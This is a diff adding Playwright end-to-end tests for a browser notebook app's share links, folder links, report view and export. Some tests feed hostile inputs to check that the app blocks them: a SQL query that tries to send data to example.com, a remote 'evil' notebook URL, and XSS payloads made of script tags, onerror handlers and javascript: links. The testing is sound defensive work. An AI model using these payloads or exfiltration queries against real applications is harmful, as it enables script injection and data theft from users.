@@ -1,0 +1,174 @@
+import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, test, type Page } from '@playwright/test';
+import { encodeShareFragment } from '../../src/lib/notebook/shareLink';
+import type { Cell, Notebook } from '../../src/lib/notebook/model';
+import { cell, openApp, openOverview, watchErrors, watchForeignRequests } from './helpers';
+import { serveFolder } from './staticServer';
+
+/** A cell as written in a test: any kind, without its id. */
+type DraftCell = { [K in Cell['kind']]: Omit<Extract<Cell, { kind: K }>, 'id'> }[Cell['kind']];
+
+function notebookOf(title: string, cells: DraftCell[]): Notebook {
+  return { id: 'shared', title, createdAt: 0, updatedAt: 0, version: 0, cells: cells.map((c, i) => ({ ...c, id: `c${i}` }) as Cell) };
+}
+
+/** The review dialog a shared notebook opens behind. */
+function review(page: Page) {
+  return page.getByRole('dialog', { name: 'Open a shared notebook?' });
+}
+
+test('a copied link opens the same notebook in a fresh browser, after showing what it runs', async ({ page, context, browser }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await openOverview(page);
+  await page.getByRole('button', { name: 'Copy link' }).click();
+  await expect(page.getByRole('status', { name: 'Share notice' })).toContainText('Link copied');
+  const link = await page.evaluate(() => navigator.clipboard.readText());
+  expect(link).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#nb=[A-Za-z0-9_-]+$/);
+  console.log(`overview notebook link: ${link.length} characters`);
+
+  const fresh = await browser.newContext();
+  const other = await fresh.newPage();
+  const foreign = watchForeignRequests(other);
+  await openApp(other, link);
+  const dialog = review(other);
+  await expect(dialog).toContainText('Retention overview');
+  await expect(dialog.getByRole('list', { name: 'SQL the notebook runs' })).toContainText('crr');
+  // Nothing has run yet: no notebook is open behind the dialog.
+  await expect(other.getByRole('article')).toHaveCount(0);
+  await other.screenshot({ path: 'test-results/share-review.png' });
+  await dialog.getByRole('button', { name: 'Open and run' }).click();
+  await expect(cell(other, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
+  // The address no longer carries the notebook; the copy is saved and survives a reload.
+  expect(new URL(other.url()).hash).toBe('');
+  await other.reload();
+  await expect(cell(other, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
+  await expect(review(other)).toBeHidden();
+  expect(foreign).toEqual([]);
+  await fresh.close();
+});
+
+test('a team folder (app in a sub-folder, a notebook and CSVs) opens from one ?notebook=&data= link', async ({ browser }) => {
+  const root = await mkdtemp(join(tmpdir(), 'recur-host-'));
+  const folder = join(root, 'team', 'recur');
+  await cp('dist', folder, { recursive: true });
+  await cp('test/fixtures/shared-folder', folder, { recursive: true });
+  const server = await serveFolder(root, 4191);
+  const context = await browser.newContext();
+  try {
+    const page = await context.newPage();
+    const foreign = watchForeignRequests(page);
+    const errors = watchErrors(page);
+    await openApp(page, 'http://127.0.0.1:4191/team/recur/?notebook=q3.recur.md&data=orders-q4.csv');
+    const dialog = review(page);
+    await expect(dialog).toContainText('Team retention Q3');
+    const files = dialog.getByRole('list', { name: 'Data files the link loads' });
+    await expect(files).toContainText('/team/recur/orders-q4.csv');
+    await expect(files).toContainText('/team/recur/orders-q3.csv');
+    await dialog.getByRole('button', { name: 'Open and run' }).click();
+    const table = cell(page, 'totals').getByRole('region', { name: 'totals table' });
+    // Six orders from four customers across both files, and not the sample data that was loaded before.
+    await expect(table.getByRole('row').nth(1)).toContainText('4');
+    await expect(table.getByRole('row').nth(1)).toContainText('6');
+    await expect(table.getByRole('row').nth(1)).toContainText('420');
+    await expect(page.getByRole('list', { name: 'Loaded data sets' })).not.toContainText('sample-orders.csv');
+    await page.screenshot({ path: 'test-results/shared-folder.png' });
+    expect(foreign).toEqual([]);
+    expect(errors).toEqual([]);
+  } finally {
+    await context.close();
+    server.close();
+    await rm(root, { recursive: true, force: true });
+  }
+});
+
+test('a link to files outside the app folder is refused with a message, and the app carries on', async ({ page }) => {
+  const foreign = watchForeignRequests(page);
+  await openApp(page, '/?notebook=https://example.com/evil.recur.md');
+  await expect(page.getByRole('alert').filter({ hasText: 'This link could not be opened' })).toContainText('absolute URL');
+  await expect(cell(page, 'crr').getByLabel('Explanation')).toContainText('CRR for', { timeout: 60_000 });
+  expect(foreign).toEqual([]);
+});
+
+test('SQL in a shared notebook cannot reach the network: a clear message, and no request leaves the machine', async ({ page }) => {
+  const foreign = watchForeignRequests(page);
+  const fragment = await encodeShareFragment(
+    notebookOf('Phone home', [{ kind: 'sql', name: 'stolen', source: "SELECT * FROM read_csv('https://example.com/collect.csv?who=me')" }]),
+  );
+  await openApp(page, `/${fragment}`);
+  await review(page).getByRole('button', { name: 'Open and run' }).click();
+  await expect(cell(page, 'stolen').getByRole('alert')).toContainText('cannot read URLs');
+  await expect(cell(page, 'stolen').getByRole('alert')).toContainText('https://example.com/collect.csv');
+  expect(foreign).toEqual([]);
+});
+
+test('XSS payloads in a shared notebook stay text', async ({ page }) => {
+  const foreign = watchForeignRequests(page);
+  const dialogs: string[] = [];
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  const payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
+  const fragment = await encodeShareFragment(
+    notebookOf(`Quarterly ${payload}`, [
+      { kind: 'markdown', source: `# Hello\n\n${payload}\n\n[click](javascript:window.__pwned=3) <a href="javascript:alert(1)">x</a> <iframe src="https://example.com"></iframe>` },
+      { kind: 'params', params: [{ name: 'who', label: payload, type: 'text', value: payload }] },
+      { kind: 'sql', name: 'echo', source: `SELECT '${payload.replaceAll("'", "''")}' AS html, $who AS who` },
+    ]),
+  );
+  await openApp(page, `/${fragment}`);
+  const dialog = review(page);
+  await expect(dialog).toContainText('Quarterly <img src=x');
+  await dialog.getByRole('button', { name: 'Open and run' }).click();
+  await expect(cell(page, 'echo').getByRole('region', { name: 'echo table' })).toContainText('<script>window.__pwned=2</script>');
+  await expect(page.getByLabel('Notebook title')).toHaveValue(/Quarterly <img/);
+  // The javascript: links lost their targets; the text stays.
+  await expect(page.locator('div.markdown')).toContainText('click x');
+  expect(await page.locator('div.markdown a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^javascript:/i));
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  expect(await page.locator('iframe, div.markdown script, div.markdown img[onerror]').count()).toBe(0);
+  expect(dialogs).toEqual([]);
+  expect(foreign).toEqual([]);
+});
+
+test('the report view hides the code and keeps the results; it can be linked to', async ({ page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await openOverview(page);
+  await page.getByRole('button', { name: 'Report view' }).click();
+  await expect(page.getByRole('button', { name: 'Report view' })).toHaveAttribute('aria-pressed', 'true');
+  await expect(page.getByRole('toolbar', { name: 'Notebook tools' })).toBeHidden();
+  await expect(page.getByRole('button', { name: 'Run', exact: true }).first()).toBeHidden();
+  await expect(page.getByRole('complementary')).toBeHidden();
+  await expect(cell(page, 'crr').getByRole('img').first()).toBeVisible();
+  await expect(cell(page, 'crr').getByLabel('Explanation')).toBeVisible();
+  await page.screenshot({ path: 'test-results/report-view.png', fullPage: false });
+
+  await page.getByRole('button', { name: 'Copy link' }).click();
+  const link = await page.evaluate(() => navigator.clipboard.readText());
+  expect(link).toMatch(/&view=report$/);
+  const other = await context.newPage();
+  await openApp(other, link);
+  await review(other).getByRole('button', { name: 'Open and run' }).click();
+  await expect(other.getByRole('button', { name: 'Report view' })).toHaveAttribute('aria-pressed', 'true');
+  await expect(other.getByRole('toolbar', { name: 'Notebook tools' })).toBeHidden();
+});
+
+test('an exported .recur.md file imports back to the same notebook', async ({ page }) => {
+  await openOverview(page);
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export' }).click();
+  const file = await download;
+  expect(file.suggestedFilename()).toBe('retention-overview.recur.md');
+  const text = await readFile(await file.path(), 'utf8');
+  expect(text).toMatch(/^---\nformat: recur-notebook\/1\ntitle: Retention overview\ndata:\n  - sample-orders.csv\n/);
+  await page.getByLabel('Choose a notebook file to open').setInputFiles({ name: file.suggestedFilename(), mimeType: 'text/markdown', buffer: Buffer.from(text) });
+  const dialog = review(page);
+  await expect(dialog).toContainText('retention-overview.recur.md');
+  await expect(dialog.getByRole('list', { name: 'Data files the notebook expects' })).toContainText('sample-orders.csv');
+  await dialog.getByRole('button', { name: 'Open without running' }).click();
+  await expect(page.getByRole('navigation', { name: 'Notebooks' })).toContainText('Retention overview');
+  await expect(cell(page, 'crr')).toBeVisible();
+  await expect(cell(page, 'crr').getByLabel('Explanation')).toHaveCount(0);
+});
